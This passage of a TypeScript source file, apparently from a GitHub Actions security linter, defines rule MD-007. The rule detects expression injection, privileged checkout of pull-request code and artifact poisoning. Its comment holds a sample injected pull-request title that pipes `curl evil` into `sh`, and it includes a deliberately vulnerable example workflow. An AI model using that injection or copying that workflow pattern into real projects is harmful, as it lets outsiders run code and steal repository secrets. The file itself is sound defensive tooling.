/**
 * MD-007 — untrusted input executed.
 *
 * Three shapes of the same mistake: data or code controlled by whoever opens a pull request, an
 * issue or a comment ends up being executed by a workflow that holds the base repository's token
 * and secrets.
 *
 * 1. **Expression injection** (high). `${{ … }}` is substituted into the script text *before* the
 *    shell (or `actions/github-script`) parses it, so an expression whose value an outsider
 *    controls is code injection: a pull request titled `a"; curl evil | sh; echo "` runs. Checked
 *    sinks: `run:` of workflow and composite-action steps, and the `script:` input of
 *    `actions/github-script`. Attacker-controlled values (see `TAINTED`): PR/issue/discussion
 *    title and body, PR head ref/label and head-repository branch/description, comment, review
 *    and review-comment bodies, wiki page names, commit messages and author/committer names and
 *    e-mails (push, merge_group, workflow_run), `github.head_ref`, `workflow_run`/`check_suite`
 *    head branches and titles, and whole objects containing them passed to `toJSON()`.
 *    - Passing the value through `env:` and reading it as `"$VAR"` (or `process.env.VAR`) is the
 *      safe pattern and stays silent. Reading it back as `${{ env.VAR }}` is injection again and is
 *      reported, naming the `env:` entry.
 *    - Expressions whose result is a boolean (`contains(…)`, `startsWith(…)`, comparisons, `!x`)
 *      are safe, and so is everything else: `github.sha`, `github.event.pull_request.number`,
 *      `steps.*.outcome`, `inputs.*` (set by people with write access or by the caller).
 *    Subject `<job>:<step>:injection` (`<step>` = step id, else name, else `#<index>`).
 *
 * 2. **Checkout of the pull request's code in a privileged workflow** (`pull_request_target`,
 *    `workflow_run`, `issue_comment`):
 *    - `pull_request_target` / `workflow_run`: `actions/checkout` with `ref:` from the PR head
 *      (`github.event.pull_request.head.sha|ref`, `github.head_ref`, `merge_commit_sha`,
 *      `refs/pull/…`, `github.event.workflow_run.head_sha|head_branch`) or `repository:` of the head
 *      repository (directly or through an `env:` entry), or a `run:` step doing `gh pr checkout` /
 *      `git fetch|checkout … pull/…`.
 *    - `issue_comment` (runs with the base repository's token and secrets for a comment from anyone;
 *      the `github.event.pull_request.*` fields are empty there): `ref:` / `repository:` containing
 *      `refs/pull/`, or `pull/…` built from `github.event.issue.number`; a `run:` step doing
 *      `gh pr checkout` / `git fetch … pull/…`; and, with **medium confidence**, a `ref:` /
 *      `repository:` (or a `git fetch|checkout` line) using `steps.<id>.outputs.*` of an earlier step
 *      of the job that looks the pull request up — its `run:` / github-script `script:` mentions
 *      `pulls.get`, `pulls/`, `pr view`, `headRefOid`, `head.sha` or `head.ref`, or it uses
 *      `xt0rted/pull-request-comment-branch` (or a fork of it) / `eficode/resolve-pr-refs`. The
 *      message says the ref is resolved from the pull request. This step-output shape is only
 *      checked in `issue_comment` workflows.
 *    Severity by what follows the checkout in the job:
 *    - **critical** when a later step of the job runs code: any `run:` step, a local `./` action
 *      (loaded from the checked-out tree) or a known build action (`docker/build-push-action`,
 *      CodeQL autobuild, `cypress-io/github-action`, …);
 *    - **high** when only other third-party actions follow (they may run the checked-out code —
 *      install scripts, configuration files — and the rule cannot tell);
 *    - **medium** when nothing that could run it follows (only known-inert actions such as
 *      `actions/upload-artifact`, or nothing at all): the checkout itself is not execution, but the
 *      token persisted by `actions/checkout` sits next to untrusted files.
 *    Guards. A job (or checkout step) whose `if:` restricts it to same-repository pull requests
 *    (`github.event.pull_request.head.repo.full_name == github.repository`, `…head.repo.fork ==
 *    false`) or to merged pull requests (`github.event.pull_request.merged == true`) is safe and
 *    silent; a condition with `||` is not trusted to be such a guard. In `issue_comment` workflows
 *    a maintainer's choice lowers the finding to **medium** (never silent): a top-level `&&` part of
 *    the job's or the checkout step's `if:` that admits only `github.event.comment.author_association`
 *    OWNER / MEMBER / COLLABORATOR (`== 'MEMBER'`, `contains(fromJSON('["OWNER","MEMBER"]'), …)`,
 *    `contains('OWNER,MEMBER', …)` when no other association is a substring, or an `||` of such
 *    comparisons only) or named users (`github.actor` / `github.triggering_actor` /
 *    `github.event.comment.user.login` `== 'x'` or in a `fromJSON` list); a step before the checkout
 *    that asks the API for the commenter's permission (`getCollaboratorPermissionLevel`,
 *    `collaborators/…/permission`); or such a condition or step in a job listed in `needs:` (unless
 *    the job's own `if:` uses `always()`, `failure()` or `cancelled()`). The message explains the
 *    remaining time-of-check/time-of-use gap (the head can change between the comment and the
 *    checkout); a checkout of a SHA resolved by the workflow stays medium too, since it is resolved
 *    after the comment. `github.event.issue.pull_request` (the comment is on a pull request) and
 *    conditions on the comment text are not guards. Subject `<job>:pr-head-checkout`.
 *
 * 3. **Artifact poisoning** (`workflow_run`, `pull_request_target`). Artifacts uploaded by a
 *    pull request's run are written by whoever opened it. Downloads of another run's artifacts:
 *    `actions/download-artifact` (v4+, older versions ignore it) with a `run-id:` other than
 *    `github.run_id`; `dawidd6/action-download-artifact` with `run_id` (not this run), `workflow`,
 *    `pr` or `commit`; `actions/github-script` calling `downloadArtifact` (unless every `run_id:` is
 *    this run's); `gh run download` without this run's id. Where the files land: `path:` absent,
 *    `.` or `${{ github.workspace }}` → the workspace root; a `${{ runner.temp }}` / `$RUNNER_TEMP`,
 *    absolute or relative directory → that directory (a github-script download → `$RUNNER_TEMP`
 *    or `/tmp` when its `writeFileSync` target names it, else the root); an expression the rule
 *    cannot resolve → unknown. The job's later steps (and later lines of a `gh run download` script)
 *    are then read line by line:
 *    - **high** (confidence high) when they execute a downloaded file: `bash|sh|source|.|python|
 *      node|ruby|perl|pwsh|…` with a file in the download (`python -m` from it), a path into it at
 *      command position (`./x`, `dir/x`), a build tool (`make`, `npm|pnpm|yarn|bun` install/run/test,
 *      `npx`, `pip install -r|-e`, `cargo`, `go`, `docker build`, …) run in it (after `cd` into it,
 *      with `-C` / `--prefix` / `--cwd` / `-f` naming it, or anywhere in a job that downloaded into
 *      the workspace root), a file from it piped into a shell or used as `$(cat F)` at command
 *      position, `$GITHUB_PATH` gaining a directory from it, a local `./` action or a known build
 *      action loaded from it, or github-script `require()` of a file in it; `unzip` / `tar -x` / `7z`
 *      / `cp` / `mv` of a downloaded file carry the taint to their destination;
 *    - **high** (confidence medium) when a value read from it (`cat`, `$(< F)`, `jq`, `head`, `read
 *      X < F`, …) is written to `$GITHUB_ENV` (a newline sets any variable), reaches `${{ }}` in a
 *      later `run:` / github-script through `$GITHUB_OUTPUT`, is used unquoted as an argument or
 *      command (`gh pr comment $PR`), or goes to `eval` / `bash -c`. A value counts as validated —
 *      and stays silent — after a regex test (`[[ $X =~ … ]]`), `case "$X"`, a numeric test
 *      (`-eq`…) or a `grep` of it in the same step, or when it is reduced to digits (`tr -dc`,
 *      `${X//[^0-9]/}`, `$(( ))`, jq `tonumber`); quoted uses (`"$PR"`) are silent;
 *    - **medium** when the download went to the workspace root or an unresolvable path and a later
 *      step runs code (any `run:` step, a local / build / unknown action) that the rule cannot tie
 *      to the files, which can replace scripts and configuration the job uses;
 *    - **silent** for downloads to a directory (for example under `${{ runner.temp }}`) used only as
 *      data by the base repository's own code, for this run's own artifacts, and in jobs guarded by
 *      the same-repository guards above or `github.event.workflow_run.event == 'push'` (or
 *      `schedule`, `workflow_dispatch`, `merge_group`, `release`) without `||`. The triggering
 *      workflow's own triggers are not trusted: a pull request can change them. One finding per job,
 *      with the download and the executing line as evidence. Subject `<job>:artifact-poisoning`.
 *
 * Files that did not parse (MD-000) are skipped. Linear in the size of each workflow: every step and
 * script line is read a fixed number of times (downloaded directories are looked up by path prefix).
 */
import type { Severity } from '../model/common.js';
import type { Evidence, FindingDraft, Rule, RuleMeta } from '../model/finding.js';
import type { GovernanceSnapshot } from '../model/snapshot.js';
import type { Job, Step, WorkflowFile } from '../model/workflow.js';
import { scriptLine, stepKey } from './md-002-unpinned-execution.js';
import { actionName, matchesAction } from './md-004-over-privileged-token.js';

export const meta: RuleMeta = {
  id: 'MD-007',
  version: '1.1.0',
  title: 'Untrusted input executed',
  severity: 'high',
  confidence: 'high',
  defaultAction: 'block',
  fpCeiling: 0.1,
  motivation:
    'GitHub substitutes `${{ … }}` into a script before the shell reads it, so a pull request title, ' +
    'branch name, issue body or commit message written by an outsider becomes shell code in your ' +
    'workflow. And `pull_request_target`, `workflow_run` and `issue_comment` workflows run with the base ' +
    'repository\'s token and secrets: checking out the pull request\'s code there and then building or ' +
    'testing it hands those secrets to whoever opened the pull request ("pwn request"), and so does ' +
    'executing the files a pull request\'s run uploaded as an artifact ("artifact poisoning"). All of ' +
    'these have been used to steal publishing tokens and push malicious releases of popular projects.',
  description:
    'Reports (1) attacker-controlled expressions — pull request, issue, discussion and comment titles ' +
    'and bodies, head branch names and labels, commit messages and author fields, wiki page names, ' +
    '`github.head_ref` — interpolated into `run:` scripts or the `script:` of `actions/github-script`, ' +
    'directly or through an `env:` entry read back as `${{ env.X }}` (high); reading the value as ' +
    '`"$X"` from `env:` is the safe pattern and is not reported, nor are booleans (`contains(…)`, ' +
    'comparisons) or values outsiders cannot shape (`github.sha`, `github.event.pull_request.number`, ' +
    '`steps.*.outcome`); (2) `pull_request_target` / `workflow_run` jobs that check out the pull ' +
    'request head (`ref:` from `github.event.pull_request.head.*`, `github.head_ref`, ' +
    '`refs/pull/…`, the `workflow_run` head, or the head repository), and `issue_comment` jobs that ' +
    'check out `refs/pull/<n>/head|merge`, run `gh pr checkout` or `git fetch … pull/…`, or pass ' +
    '`actions/checkout` a ref that an earlier step resolved from the pull request (`pulls.get`, ' +
    '`gh pr view`, `headRefOid`, `xt0rted/pull-request-comment-branch`; medium confidence), and then ' +
    'run code from it: critical when a `run:` step, a local action or a build action follows, high when ' +
    'only other third-party actions follow, medium when nothing follows. Jobs guarded to ' +
    'same-repository or merged pull requests are not reported; `issue_comment` jobs restricted to ' +
    'commenters whose `author_association` is OWNER, MEMBER or COLLABORATOR (or to named users, or ' +
    'after a `getCollaboratorPermissionLevel` / `collaborators/…/permission` check) are medium, because ' +
    'the pull request can change between the comment and the checkout; `github.event.issue.pull_request` ' +
    'alone is not a guard; and (3) artifact poisoning: `workflow_run` / `pull_request_target` jobs that ' +
    'download another run\'s artifacts (`actions/download-artifact` v4+ with `run-id:`, ' +
    '`dawidd6/action-download-artifact` with `run_id` / `workflow` / `pr` / `commit`, github-script ' +
    '`downloadArtifact`, `gh run download`) and then execute them — a script, `source`, `make`, ' +
    '`npm`/`yarn`/`pnpm`, `pip install -r`, a local action, `| sh`, `eval` — or let values read from them ' +
    'reach `$GITHUB_ENV`, `${{ }}` (through `$GITHUB_OUTPUT`) or an unquoted argument without ' +
    'validation (high); a download into the workspace root followed by any code the rule cannot tie to ' +
    'it is medium; a download into a directory such as `${{ runner.temp }}/…` read only as data ' +
    '(`jq`, validated values) is not reported, nor are a run\'s own artifacts.',
  remediation:
    'Never put untrusted expressions inside scripts: pass them through `env:` and quote the variable ' +
    '(`env: { TITLE: ${{ github.event.pull_request.title }} }` and `run: echo "$TITLE"`; in ' +
    'github-script read `process.env.TITLE`). In `pull_request_target` / `workflow_run` / ' +
    '`issue_comment` workflows do not check out and run the pull request\'s code: use `pull_request` ' +
    'for builds and tests (no secrets, read-only token), and if results must be published with ' +
    'privileges, upload them as an artifact and process them as data in a separate `workflow_run` job. ' +
    'If the checkout is needed, restrict the job to same-repository pull requests ' +
    '(`if: github.event.pull_request.head.repo.full_name == github.repository`) and set ' +
    '`persist-credentials: false`; for comment-triggered runs, require ' +
    '`contains(fromJSON(\'["OWNER","MEMBER","COLLABORATOR"]\'), github.event.comment.author_association)` ' +
    'and check out the exact commit SHA the maintainer reviewed. When processing another run\'s ' +
    'artifacts, download them into a directory under `${{ runner.temp }}`, never execute, `source` or ' +
    'build anything from them, and validate every value read from them (for example a pull request ' +
    'number against `^[0-9]+$`) before it reaches a script, `$GITHUB_ENV` or `${{ }}`.',
  example: [
    'on: pull_request_target',
    'jobs:',
    '  test:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - uses: actions/checkout@v4',
    '        with:',
    '          ref: ${{ github.event.pull_request.head.sha }}   # the contributor\'s code',
    '      - run: npm ci && npm test                          # runs it with the base token and secrets',
    '      - run: echo "Testing ${{ github.event.pull_request.title }}"   # injection'
  ].join('\n')
};

// ---------------------------------------------------------------------------------------------
// Taint

/** Attacker-controlled context paths (normalised: lower case, `[n]`/`.*` → `.*`). */
const TAINTED: readonly RegExp[] = [
  /^github\.head_ref$/,
  /^github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)$/,
  /^github\.event\.pull_request\.head\.(?:ref|label)$/,
  /^github\.event\.pull_request\.head\.repo\.(?:default_branch|description|homepage)$/,
  /^github\.event\.(?:comment|review|review_comment)\.body$/,
  /^github\.event\.pages\.\*\.page_name$/,
  /^github\.event\.commits\.\*\.(?:message|author\.(?:email|name)|committer\.(?:email|name))$/,
  /^github\.event\.(?:head_commit|merge_group\.head_commit|workflow_run\.head_commit)\.(?:message|author\.(?:email|name)|committer\.(?:email|name))$/,
  /^github\.event\.workflow_run\.(?:head_branch|display_title|pull_requests\.\*\.head\.ref)$/,
  /^github\.event\.workflow_run\.head_repository\.description$/,
  /^github\.event\.(?:check_suite|check_run\.check_suite)\.head_branch$/
];

/** Objects that contain attacker-controlled fields: tainted when serialised whole (`toJSON(…)`). */
const TAINTED_OBJECTS: ReadonlySet<string> = new Set([
  'github',
  'github.event',
  'github.event.issue',
  'github.event.pull_request',
  'github.event.pull_request.head',
  'github.event.pull_request.head.repo',
  'github.event.discussion',
  'github.event.comment',
  'github.event.review',
  'github.event.review_comment',
  'github.event.pages',
  'github.event.pages.*',
  'github.event.commits',
  'github.event.commits.*',
  'github.event.commits.*.author',
  'github.event.head_commit',
  'github.event.head_commit.author',
  'github.event.merge_group',
  'github.event.merge_group.head_commit',
  'github.event.workflow_run',
  'github.event.workflow_run.head_commit',
  'github.event.workflow_run.pull_requests',
  'github.event.check_suite'
]);

/** Context references inside an expression: `github.…`, `env.X`, with `[…]` index forms. */
const REF = /(?<![\w.])(github|env)((?:\s*\.\s*[A-Za-z_*][\w-]*|\s*\[\s*(?:'[^']*'|"[^"]*"|\d+|\*)\s*\])*)/gi;

function normaliseRef(root: string, rest: string): string {
  const tail = rest
    .replace(/\s+/g, '')
    .replace(/\[(?:\d+|\*)\]/g, '.*')
    .replace(/\[['"]([^'"]*)['"]\]/g, '.$1');
  return (root + tail).toLowerCase();
}

const isTaintedPath = (p: string): boolean => TAINTED.some((re) => re.test(p));

/** A tainted source: the context path, or `env.X` with the path it carries. */
interface Taint {
  ref: string;
  via?: { env: string; from: string };
}

/** Split at top-level `&&` / `||`, respecting parentheses and string literals. */
function splitLogical(expr: string): string[] {
  const out: string[] = [];
  let depth = 0;
  let start = 0;
  for (let i = 0; i < expr.length; i++) {
    const c = expr[i];
    if (c === "'") {
      // GitHub expressions escape a quote by doubling it: the scan just continues after the pair.
      const end = expr.indexOf("'", i + 1);
      i = end === -1 ? expr.length : end;
      continue;
    }
    if (c === '(' || c === '[') depth++;
    else if (c === ')' || c === ']') depth--;
    else if (depth === 0 && (c === '&' || c === '|') && expr[i + 1] === c) {
      out.push(expr.slice(start, i));
      start = i + 2;
      i++;
    }
  }
  out.push(expr.slice(start));
  return out;
}

/** Strip parentheses that wrap the whole operand. */
function unwrap(s: string): string {
  let t = s.trim();
  while (t.startsWith('(') && t.endsWith(')')) {
    let depth = 0;
    let wraps = true;
    for (let i = 0; i < t.length - 1; i++) {
      if (t[i] === '(') depth++;
      else if (t[i] === ')') depth--;
      if (depth === 0) {
        wraps = false;
        break;
      }
    }
    if (!wraps) break;
    t = t.slice(1, -1).trim();
  }
  return t;
}

/** Blank out string literals (they are not references), except index keys (`github.event['pull_request']`). */
function stripLiterals(s: string): string {
  if (!s.includes("'")) return s;
  let out = '';
  let i = 0;
  while (i < s.length) {
    const q = s.indexOf("'", i);
    if (q === -1) {
      out += s.slice(i);
      break;
    }
    out += s.slice(i, q);
    let end = q + 1;
    for (;;) {
      const e = s.indexOf("'", end);
      if (e === -1) {
        end = s.length;
        break;
      }
      if (s[e + 1] === "'") {
        end = e + 2;
        continue;
      }
      end = e + 1;
      break;
    }
    const index = /\[\s*$/.test(out);
    out += index ? s.slice(q, end) : "''";
    i = end;
  }
  return out;
}

const BOOLEAN_CALL = /^(?:contains|startswith|endswith|success|failure|always|cancelled|hashfiles)\s*\(/i;

/** Outside of string literals, does the operand compare (`==`, `!=`, `<`, `>`, `<=`, `>=`)? */
function hasComparison(s: string): boolean {
  return /==|!=|<|>/.test(stripLiterals(s).replace(/\[\s*'[^']*'\s*\]/g, ''));
}

/**
 * Tainted references whose value can reach the result of the expression. Booleans (comparisons,
 * `!x`, `contains(…)` …) cannot carry the attacker's text and are skipped.
 */
export function taintedRefs(expr: string, env: ReadonlyMap<string, Taint>): Taint[] {
  const out: Taint[] = [];
  const visit = (operand: string, depth: number): void => {
    const t = unwrap(operand);
    if (t === '') return;
    const parts = splitLogical(t);
    if (parts.length > 1 && depth < 20) {
      for (const p of parts) visit(p, depth + 1);
      return;
    }
    if (t.startsWith('!') || hasComparison(t) || BOOLEAN_CALL.test(t)) return;
    const serialises = /\btojson\s*\(/i.test(t);
    const bare = stripLiterals(t);
    REF.lastIndex = 0;
    for (let m = REF.exec(bare); m; m = REF.exec(bare)) {
      const path = normaliseRef(m[1], m[2]);
      if (path.startsWith('env.')) {
        const name = path.slice(4).split('.')[0];
        const hit = [...env.entries()].find(([k]) => k.toLowerCase() === name);
        if (hit) out.push({ ref: `env.${hit[0]}`, via: { env: hit[0], from: hit[1].ref } });
      } else if (isTaintedPath(path) || (serialises && TAINTED_OBJECTS.has(path))) {
        out.push({ ref: path });
      }
    }
  };
  visit(expr, 0);
  return out;
}

const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;

interface ExprHit {
  taint: Taint;
  /** Offset of the `${{` in the text. */
  offset: number;
}

function scanText(text: string, env: ReadonlyMap<string, Taint>): ExprHit[] {
  if (!text.includes('${{')) return [];
  const out: ExprHit[] = [];
  EXPRESSION.lastIndex = 0;
  for (let m = EXPRESSION.exec(text); m; m = EXPRESSION.exec(text)) {
    for (const taint of taintedRefs(m[1], env)) out.push({ taint, offset: m.index });
  }
  return out;
}

/** `env:` entries whose value carries a tainted expression, on top of the outer scope's. */
function envScope(outer: ReadonlyMap<string, Taint>, env: Record<string, { value: string }>): ReadonlyMap<string, Taint> {
  const keys = Object.keys(env);
  if (keys.length === 0) return outer;
  const scope = new Map(outer);
  for (const k of keys) {
    const hits = scanText(env[k].value, outer);
    if (hits.length > 0) {
      const t = hits[0].taint;
      scope.set(k, { ref: t.via ? t.via.from : t.ref });
    } else scope.delete(k);
  }
  return scope;
}

// ---------------------------------------------------------------------------------------------
// PR head checkout

const HEAD_REF =
  /github\s*\.\s*event\s*\.\s*pull_request\s*\.\s*head\s*\.\s*(?:sha|ref|repo\s*\.\s*full_name)|github\s*\.\s*head_ref|github\s*\.\s*event\s*\.\s*pull_request\s*\.\s*merge_commit_sha|github\s*\.\s*event\s*\.\s*workflow_run\s*\.\s*(?:head_sha|head_branch|head_commit\s*\.\s*id|head_repository\s*\.\s*full_name|pull_requests\s*\[[^\]]*\]\s*\.\s*head\s*\.\s*(?:sha|ref))|refs\/pull\//i;
const RUN_CHECKOUT = /\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|checkout|switch|pull|reset|worktree)\b[^\n]*(?:\bpull\/|refs\/pull\/|\$\{\{[^}]*(?:head\.sha|head\.ref|head_ref|head_sha|head_branch|merge_commit_sha))/i;

const SAME_REPO_GUARD =
  /github\.event\.pull_request\.head\.repo\.full_name\s*==\s*github\.repository\b|github\.repository\s*==\s*github\.event\.pull_request\.head\.repo\.full_name|github\.event\.pull_request\.head\.repo\.fork\s*==\s*false|!\s*github\.event\.pull_request\.head\.repo\.fork\b|github\.event\.workflow_run\.head_repository\.full_name\s*==\s*github\.repository\b|github\.repository\s*==\s*github\.event\.workflow_run\.head_repository\.full_name|github\.event\.workflow_run\.head_repository\.fork\s*==\s*false|github\.event\.pull_request\.head\.repo\.owner\.login\s*==\s*github\.repository_owner|github\.event\.pull_request\.merged\s*==\s*true|^\s*(?:\$\{\{)?\s*github\.event\.pull_request\.merged\s*(?:\}\})?\s*$/i;

function guarded(cond: string | undefined): boolean {
  if (!cond) return false;
  if (cond.includes('||')) return false;
  return SAME_REPO_GUARD.test(cond);
}

/** Actions that run the checked-out project's code. */
const BUILD_ACTIONS: readonly string[] = [
  'github/codeql-action/autobuild',
  'docker/build-push-action',
  'docker/bake-action',
  'cypress-io/github-action',
  'pre-commit/action',
  'gradle/gradle-build-action',
  'gradle/actions/setup-gradle',
  'borales/actions-yarn',
  'bahmutov/npm-install',
  'nick-fields/retry',
  'nick-invision/retry',
  'goreleaser/goreleaser-action',
  'coactions/setup-xvfb',
  'gabrielbb/xvfb-action',
  'microsoft/playwright-github-action',
  'dagger/dagger-for-github',
  'jetbrains/qodana-action'
];

/** Actions that do not execute files from the workspace. */
const INERT_ACTIONS: readonly string[] = [
  'actions/checkout',
  'actions/upload-artifact',
  'actions/download-artifact',
  'actions/cache',
  'actions/labeler',
  'actions/github-script',
  'actions/create-github-app-token',
  'peter-evans/create-or-update-comment',
  'peter-evans/find-comment',
  'marocchino/sticky-pull-request-comment',
  'thollander/actions-comment-pull-request',
  'dorny/paths-filter',
  'tj-actions/changed-files',
  'step-security/harden-runner',
  'actions/setup-node',
  'actions/setup-python',
  'actions/setup-go',
  'actions/setup-java',
  'actions/setup-dotnet'
];

function matchesAny(name: string, list: readonly string[]): boolean {
  return list.some((p) => matchesAction(name, p));
}

function isCheckoutAction(step: Step): boolean {
  const n = step.uses ? actionName(step.uses.value) : undefined;
  return n !== undefined && matchesAction(n, 'actions/checkout');
}

/** Which checkout shapes count in this workflow. */
interface CheckoutMode {
  /** `pull_request_target` / `workflow_run`: the pull request / `workflow_run` head expressions (`HEAD_REF`). */
  prHead: boolean;
  /** `issue_comment`: pull refs (`refs/pull/…`, `pull/<issue number>/…`) and refs resolved from the PR by an earlier step. */
  comment: boolean;
}

const ISSUE_NUMBER = /github\s*\.\s*event\s*\.\s*issue\s*\.\s*number/i;

/** A pull request ref in an `issue_comment` workflow: `refs/pull/…`, or `pull/…` built from the issue number. */
function commentPrRef(v: string): boolean {
  return /refs\/pull\//i.test(v) || (/(?:^|[^\w-])pull\//i.test(v) && ISSUE_NUMBER.test(v));
}

/** Script text of a step: its `run:` and, for `actions/github-script`, its `script:`. */
function stepCode(step: Step): string {
  const name = step.uses ? actionName(step.uses.value) : undefined;
  const script = name && matchesAction(name, 'actions/github-script') ? step.with.script?.value : undefined;
  return (step.run?.value ?? '') + (script !== undefined ? `\n${script}` : '');
}

/** A step that looks the pull request up and can output its head (`pulls.get`, `gh pr view --json headRefOid`, …). */
const PR_RESOLVE = /\bpulls\.get\b|\bpulls\/|\bpr\s+view\b|\bheadRefOid\b|\bhead\.sha\b|\bhead\.ref\b/;
/** Actions that output the head ref / SHA of the pull request a comment belongs to. */
const PR_RESOLVE_ACTION = /^[^/]+\/(?:[\w.-]*-)?pull-request-comment-branch(?:\/|$)|^eficode\/resolve-pr-refs(?:\/|$)/;

/** Does this step look the pull request up (so that its outputs can carry the head ref / SHA)? */
function resolvesPr(step: Step): boolean {
  const name = step.uses ? actionName(step.uses.value) : undefined;
  return (name !== undefined && PR_RESOLVE_ACTION.test(name)) || PR_RESOLVE.test(stepCode(step));
}

/** A step that checks the commenter's permission through the API. */
const PERMISSION_CHECK = /\bgetCollaboratorPermissionLevel\b|\bcollaborators\/(?:\$\{\{[^}]*\}\}|[^\s'"`/])+\/permission\b/i;
const STEP_OUTPUT = /\bsteps\s*(?:\.\s*([A-Za-z_][\w-]*)|\[\s*'([^']+)'\s*\])\s*\.\s*outputs\b/gi;
const GIT_CHECKOUT_CMD = /\bgit\s+(?:fetch|checkout|switch|reset|worktree|pull)\b/i;

/** The PR-resolving step whose output `v` uses, if any (env entries of the step and job it names are followed once). */
function resolverOf(v: string, resolvers: ReadonlyMap<string, Step>, env: readonly Record<string, { value: string }>[]): Step | undefined {
  if (resolvers.size === 0) return undefined;
  let text = v;
  for (const m of v.matchAll(/\benv\s*\.\s*([A-Za-z_][\w-]*)/gi)) {
    for (const scope of env) {
      const hit = Object.keys(scope).find((k) => k.toLowerCase() === m[1].toLowerCase());
      if (hit) {
        text += `\n${scope[hit].value}`;
        break;
      }
    }
  }
  STEP_OUTPUT.lastIndex = 0;
  for (let m = STEP_OUTPUT.exec(text); m; m = STEP_OUTPUT.exec(text)) {
    const r = resolvers.get(m[1] ?? m[2]);
    if (r) return r;
  }
  return undefined;
}

interface CheckoutHit {
  line: number;
  what: string;
  /** The step that resolved the ref from the pull request (`issue_comment` only). */
  via?: Step;
  /** The ref names a commit SHA (`…sha`, `…oid`). */
  sha: boolean;
}

/** Does this step check out the PR head? Returns the evidence line and what was checked out. */
function prHeadCheckout(
  step: Step,
  headEnv: ReadonlySet<string>,
  mode: CheckoutMode,
  resolvers: ReadonlyMap<string, Step>,
  jobEnv: Record<string, { value: string }>
): CheckoutHit | undefined {
  const viaEnv = (v: string): boolean => {
    if (headEnv.size === 0 || !/\benv\s*\./i.test(v)) return false;
    const names = [...v.matchAll(/\benv\s*\.\s*([A-Za-z_][\w-]*)/gi)].map((m) => m[1].toLowerCase());
    return names.some((n) => headEnv.has(n));
  };
  const sha = (v: string): boolean => /sha|oid/i.test(v);
  if (isCheckoutAction(step)) {
    for (const key of ['ref', 'repository']) {
      const w = step.with[key];
      if (w && ((mode.prHead && HEAD_REF.test(w.value)) || (mode.comment && commentPrRef(w.value)) || viaEnv(w.value))) {
        return { line: w.line, what: `\`${key}: ${w.value.trim()}\``, sha: sha(w.value) };
      }
    }
    if (mode.comment) {
      for (const key of ['ref', 'repository']) {
        const w = step.with[key];
        const via = w ? resolverOf(w.value, resolvers, [step.env, jobEnv]) : undefined;
        if (w && via) return { line: w.line, what: `\`${key}: ${w.value.trim()}\``, via, sha: sha(step.with.ref?.value ?? w.value) };
      }
    }
    return undefined;
  }
  const run = step.run;
  if (run) {
    const lines = run.value.split('\n');
    for (let k = 0; k < lines.length; k++) {
      if (RUN_CHECKOUT.test(lines[k])) return { line: scriptLine(run, k), what: `\`${lines[k].trim().slice(0, 160)}\``, sha: false };
      if (mode.comment && GIT_CHECKOUT_CMD.test(lines[k])) {
        const via = resolverOf(lines[k], resolvers, [step.env, jobEnv]);
        if (via) return { line: scriptLine(run, k), what: `\`${lines[k].trim().slice(0, 160)}\``, via, sha: sha(lines[k]) };
      }
    }
  }
  return undefined;
}

// ---------------------------------------------------------------------------------------------
// issue_comment guards: the commenter's association or permission

const ASSOC_REF = /^github\s*\.\s*event\s*\.\s*comment\s*\.\s*author_association$/i;
const LOGIN_REF = /^(?:github\s*\.\s*(?:actor|triggering_actor)|github\s*\.\s*event\s*\.\s*comment\s*\.\s*user\s*\.\s*login)$/i;
const TRUSTED_ASSOC: ReadonlySet<string> = new Set(['OWNER', 'MEMBER', 'COLLABORATOR']);
const UNTRUSTED_ASSOC: readonly string[] = ['CONTRIBUTOR', 'FIRST_TIMER', 'FIRST_TIME_CONTRIBUTOR', 'MANNEQUIN', 'NONE'];

/** Split at top-level `op` only, respecting parentheses and string literals. */
function splitTop(expr: string, op: '&&' | '||'): string[] {
  const out: string[] = [];
  let depth = 0;
  let start = 0;
  for (let i = 0; i < expr.length; i++) {
    const c = expr[i];
    if (c === "'") {
      const end = expr.indexOf("'", i + 1);
      i = end === -1 ? expr.length : end;
      continue;
    }
    if (c === '(' || c === '[') depth++;
    else if (c === ')' || c === ']') depth--;
    else if (depth === 0 && c === op[0] && expr[i + 1] === op[1]) {
      out.push(expr.slice(start, i));
      start = i + 2;
      i++;
    }
  }
  out.push(expr.slice(start));
  return out;
}

/** A string array written as `fromJSON('[…]')`, or undefined. */
function jsonList(arg: string): string[] | undefined {
  const m = /^fromjson\s*\(\s*'((?:[^']|'')*)'\s*\)$/i.exec(arg.trim());
  if (!m) return undefined;
  try {
    const v: unknown = JSON.parse(m[1].replace(/''/g, "'"));
    return Array.isArray(v) && v.length > 0 && v.every((x) => typeof x === 'string' && x !== '') ? (v as string[]) : undefined;
  } catch {
    return undefined;
  }
}

/** One comparison that admits only trusted commenters: a trusted association or a named user. */
function trustAtom(operand: string): boolean {
  const t = unwrap(operand);
  const left = /^([\w.\s]+?)\s*==\s*'([^']*)'$/.exec(t);
  const right = left ? undefined : /^'([^']*)'\s*==\s*([\w.\s]+?)$/.exec(t);
  const eq = left ? { ref: left[1].trim(), lit: left[2] } : right ? { ref: right[2].trim(), lit: right[1] } : undefined;
  if (eq) {
    if (ASSOC_REF.test(eq.ref)) return TRUSTED_ASSOC.has(eq.lit.toUpperCase());
    return LOGIN_REF.test(eq.ref) && eq.lit.trim() !== '';
  }
  const c = /^contains\s*\(([\s\S]*),\s*([\w.\s]+)\)$/i.exec(t);
  if (!c) return false;
  const [arg, ref] = [c[1].trim(), c[2].trim()];
  const list = jsonList(arg);
  if (ASSOC_REF.test(ref)) {
    if (list) return list.every((x) => TRUSTED_ASSOC.has(x.toUpperCase()));
    // `contains('OWNER,MEMBER', …)` is a substring test: safe only if no other association is a substring.
    const lit = /^'([^']*)'$/.exec(arg)?.[1].toUpperCase();
    return lit !== undefined && [...TRUSTED_ASSOC].some((a) => lit.includes(a)) && !UNTRUSTED_ASSOC.some((a) => lit.includes(a));
  }
  return LOGIN_REF.test(ref) && list !== undefined;
}

/**
 * Does the condition admit only trusted commenters? True when a top-level `&&` conjunct is a trusted
 * association / named-user comparison, or an `||` of such comparisons only.
 * `github.event.issue.pull_request` (the comment is on a pull request) is not such a condition.
 */
function commenterGuard(cond: string | undefined): boolean {
  if (!cond) return false;
  const expr = /^\s*\$\{\{([\s\S]*)\}\}\s*$/.exec(cond)?.[1] ?? cond;
  for (const conjunct of splitTop(expr, '&&')) {
    const alternatives = splitTop(unwrap(conjunct), '||');
